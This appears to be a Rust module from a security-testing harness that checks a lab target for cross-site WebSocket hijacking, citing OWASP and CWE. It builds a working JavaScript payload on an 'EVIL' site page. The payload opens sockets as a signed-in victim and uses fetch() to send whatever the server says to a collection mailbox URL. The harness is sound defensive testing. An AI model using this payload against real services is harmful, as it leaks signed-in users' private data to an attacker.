//! Another site opens a WebSocket.

use std::time::Duration;

use super::victim::Victim;

use crate::attack::{
    places::EVIL,
    plan::{Attack, Expected, Found, Needs, Tried},
    stage::Stage,
};

pub(in crate::attack) const ATTACK: Attack = Attack {
    id: "websocket-hijack",
    title: "Another site opens a WebSocket",
    has: "a page at another site, which the victim visits while signed in",
    does: "opens a WebSocket, which no browser asks leave for, and reads",
    gains: "what the server says to the victim",
    source: "OWASP WSTG-CLNT-10; RFC 6455 section 10.2; CWE-1385",
    expected: Expected::EVERYWHERE.not_careless_jwt("another site's page cannot send a token along"),
    needs: Needs::Browser,
    run: |stage| Box::pin(run(stage)),
};

async fn run(stage: &Stage) -> Tried {
    let victim = Victim::new(stage).await?;
    let mailbox = stage.lab.places.mailbox();
    let addresses = ["/live", "/v1/verify", "/v1/revocations", "/v1/account"]
        .map(|path| format!("'{}'", stage.target.site.url(path).replacen("http", "ws", 1)));
    let html = format!(
        "<script>for (const to of [{}]) {{ const socket = new WebSocket(to); \
         const tell = (what) => fetch('{}?x=' + encodeURIComponent(what)); \
         socket.onmessage = (event) => tell(event.data); socket.onerror = () => tell('refused'); }}</script>",
        addresses.join(","),
        mailbox.url
    );
    victim.page.open(&stage.lab.places.publish(EVIL, html)).await?;
    let hits = mailbox.wait_for(addresses.len(), Duration::from_secs(5)).await;
    let said = hits.iter().filter_map(|hit| hit.parameter("x")).collect::<Vec<_>>();
    Ok(if said.contains(&victim.person.email) {
        Found::Worked("the socket said who is signed in".to_owned())
    } else if said.iter().all(|what| what == "refused") && !said.is_empty() {
        Found::Refused(format!("{} addresses, none of which opens a socket", said.len()))
    } else {
        Found::Worked(format!("a socket opened and said {said:?}"))
    })
}
